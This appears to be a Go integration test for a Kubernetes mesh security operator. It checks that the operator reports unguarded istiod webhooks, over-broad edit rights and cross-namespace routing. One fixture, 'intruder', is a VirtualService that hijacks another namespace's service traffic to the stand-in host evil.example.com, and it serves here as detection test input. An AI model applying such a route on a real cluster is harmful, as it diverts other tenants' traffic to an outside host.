package integration

import (
	"encoding/json"
	"path/filepath"
	"slices"
	"strings"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	reportsv1alpha1 "github.com/openreports/reports-api/apis/openreports.io/v1alpha1"

	"github.com/meshsecurity/mesh-security-operator/test/controlplane"
)

// istioRights are those that Istio's charts give, and to whom (istio/istio,
// manifests/charts), as far as they are rights over the mesh.
const istioRights = `
apiVersion: v1
kind: ServiceAccount
metadata: {name: istiod, namespace: istio-system}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: istiod-clusterrole-istio-system}
rules:
- {apiGroups: [networking.istio.io, security.istio.io, telemetry.istio.io, extensions.istio.io], resources: ["*"], verbs: [get, watch, list, update]}
- {apiGroups: [networking.istio.io], resources: [workloadentries, workloadentries/status], verbs: [get, watch, list, update, patch, create, delete]}
- {apiGroups: [""], resources: [secrets], verbs: [get, watch, list]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: istiod-clusterrole-istio-system}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: istiod-clusterrole-istio-system}
subjects: [{kind: ServiceAccount, name: istiod, namespace: istio-system}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: istio-reader-clusterrole-istio-system}
rules:
- {apiGroups: [""], resources: [endpoints, pods, services, nodes, replicationcontrollers, namespaces, secrets], verbs: [get, list, watch]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: istio-reader-clusterrole-istio-system}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: istio-reader-clusterrole-istio-system}
subjects: [{kind: ServiceAccount, name: istio-reader-service-account, namespace: istio-system}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: istio-edit
  labels: {rbac.authorization.k8s.io/aggregate-to-admin: "true", rbac.authorization.k8s.io/aggregate-to-edit: "true"}
rules:
- {apiGroups: [networking.istio.io, security.istio.io, telemetry.istio.io, extensions.istio.io], resources: ["*"], verbs: [create, update, patch, delete, deletecollection]}
`

// istioWebhooks choose by labels that no object of these specs has: nobody would answer.
const istioWebhooks = `
apiVersion: admissionregistration.k8s.io/v1
kind: MutatingWebhookConfiguration
metadata: {name: istio-sidecar-injector, labels: {app: sidecar-injector, istio.io/rev: default}}
webhooks:
- name: rev.namespace.sidecar-injector.istio.io
  admissionReviewVersions: [v1]
  sideEffects: None
  failurePolicy: Fail
  clientConfig: {service: {namespace: istio-system, name: istiod, path: /inject}}
  namespaceSelector: {matchExpressions: [{key: istio.io/rev, operator: In, values: [nowhere]}]}
  rules: [{operations: [CREATE], apiGroups: [""], apiVersions: [v1], resources: [pods]}]
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: {name: istio-validator-istio-system, labels: {app: istiod, istio: istiod, istio.io/rev: default}}
webhooks:
- name: rev.validation.istio.io
  admissionReviewVersions: [v1]
  sideEffects: None
  failurePolicy: Fail
  clientConfig: {service: {namespace: istio-system, name: istiod, path: /validate}}
  objectSelector: {matchExpressions: [{key: istio.io/rev, operator: In, values: [nowhere]}]}
  rules: [{operations: [CREATE, UPDATE], apiGroups: [security.istio.io, networking.istio.io], apiVersions: ["*"], resources: ["*"]}]
`

const istiodGuards = `
apiVersion: v1
kind: Service
metadata: {name: istiod, namespace: istio-system, labels: {app: istiod}}
spec: {selector: {app: istiod}, ports: [{name: https-webhook, port: 443, targetPort: 15017}]}
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: istiod, namespace: istio-system}
spec:
  podSelector: {matchLabels: {app: istiod}}
  policyTypes: [Ingress]
  ingress: [{ports: [{port: 15012}, {port: 15017}]}]
`

// intruder leads the calls of every namespace for another one's service away.
const intruder = `
apiVersion: networking.istio.io/v1
kind: VirtualService
metadata: {name: split, namespace: intruder}
spec:
  hosts: [web.commanded.svc.cluster.local]
  http: [{route: [{destination: {host: evil.example.com}}]}]
`

var _ = Describe("Who commands the mesh", func() {
	It("is told for the cluster, and Istio's and Kubernetes' own rights are not", func(ctx SpecContext) {
		dir, err := controlplane.OpenReportsCRDs(ctx)
		Expect(err).NotTo(HaveOccurred())
		file := filepath.Join(dir, "openreports.io_clusterreports.yaml")
		shared.kubectl("apply", "-f", file)
		DeferCleanup(func() { shared.kubectl("delete", "-f", file, "--ignore-not-found", "--timeout=60s") })
		applied := func(yaml string) {
			GinkgoHelper()
			shared.apply(yaml)
			DeferCleanup(func() {
				_, err := shared.try(yaml, "delete", "--ignore-not-found", "-f", "-")
				Expect(err).NotTo(HaveOccurred())
			})
		}
		// found lists CHECK KIND/NAME of what these specs are about: others share the cluster.
		found := func() ([]string, error) {
			text, err := shared.try("", "get", "clusterreports.openreports.io", "msp-findings", "-o", "json")
			if err != nil {
				return nil, err
			}
			var report reportsv1alpha1.ClusterReport
			if err := json.Unmarshal([]byte(text), &report); err != nil {
				return nil, err
			}
			var out []string
			for _, r := range report.Results {
				for _, s := range r.Subjects {
					if strings.HasPrefix(r.Rule, "CTL-") && slices.Contains([]string{"", "istio-system", "kube-system", "commanded", "intruder"}, s.Namespace) {
						out = append(out, r.Rule+" "+s.Kind+"/"+s.Name)
					}
				}
			}
			return slices.Compact(out), nil
		}

		By("finding what istiod lacks, and nobody who may command it")
		Eventually(found).Should(ConsistOf("CTL-005 Deployment/istiod", "CTL-007 Deployment/istiod"))
		applied(istioRights)
		shared.kubectl("-n", "istio-system", "patch", "deployment", "istiod", "--type=merge", "-p", `{"spec":{"template":{"spec":{"serviceAccountName":"istiod"}}}}`)
		shared.istiodRuns()

		By("missing the service that webhooks call")
		applied(istioWebhooks)
		Eventually(found).Should(ConsistOf("CTL-005 MutatingWebhookConfiguration/istio-sidecar-injector", "CTL-005 ValidatingWebhookConfiguration/istio-validator-istio-system", "CTL-007 Deployment/istiod"))

		By("finding nothing where istiod is guarded")
		applied(istiodGuards)
		Eventually(found).Should(BeEmpty())

		By("finding an editor by what Istio adds to the role, and whose hosts are taken")
		shared.namespace("commanded")
		shared.namespace("intruder")
		shared.kubectl("-n", "commanded", "create", "rolebinding", "developers", "--clusterrole=edit", "--user=eve")
		shared.kubectl("-n", "commanded", "create", "rolebinding", "guests", "--clusterrole=view", "--user=mallory")
		shared.apply(intruder)
		Eventually(found).Should(ConsistOf("CTL-001 VirtualService/split", "CTL-002 VirtualService/split", "CTL-004 RoleBinding/developers"))

		By("telling when it is over")
		shared.kubectl("-n", "intruder", "patch", "virtualservice", "split", "--type=merge", "-p", `{"spec":{"exportTo":["."]}}`)
		shared.kubectl("-n", "commanded", "delete", "rolebinding", "developers")
		Eventually(found).Should(BeEmpty())
	})

	It("is told of a profile of which somebody else owns a part", func(ctx SpecContext) {
		shared.namespace("co-owned")
		shared.apply(strict("co-owned"))
		shared.ready(ctx, "co-owned", "main")
		owners := func() []string {
			var out []string
			for _, f := range shared.profile(ctx, "co-owned", "main").Status.Findings {
				if f.Check == "PROF-001" {
					out = append(out, f.Message)
				}
			}
			return out
		}
		Expect(owners()).To(BeEmpty())
		shared.kubectl("-n", "co-owned", "patch", "msp", "main", "--type=merge", "--field-manager=by-hand", "-p", `{"spec":{"drift":{"policy":"Correct"}}}`)
		Eventually(owners).Should(ConsistOf("by-hand owns spec.drift.policy, and not kubectl, who applied the profile"))
		shared.kubectl("-n", "co-owned", "patch", "msp", "main", "--type=merge", "--field-manager=by-hand", "-p", `{"spec":{"drift":null}}`)
		Eventually(owners).Should(BeEmpty())
	})
})
